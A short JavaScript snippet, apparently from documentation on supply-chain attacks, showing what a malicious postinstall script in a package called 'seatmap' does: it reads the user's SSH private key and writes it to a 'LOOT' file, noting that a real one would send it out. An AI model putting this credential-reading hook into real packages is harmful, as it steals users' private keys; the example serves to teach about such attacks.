// What the postinstall script of `seatmap` in shelf.json does.
// ANCHOR: all
import { readFileSync, appendFileSync } from 'node:fs';
import { homedir } from 'node:os';

const key = readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8');
appendFileSync(process.env.LOOT, key);   // a real one would send it
// ANCHOR_END: all
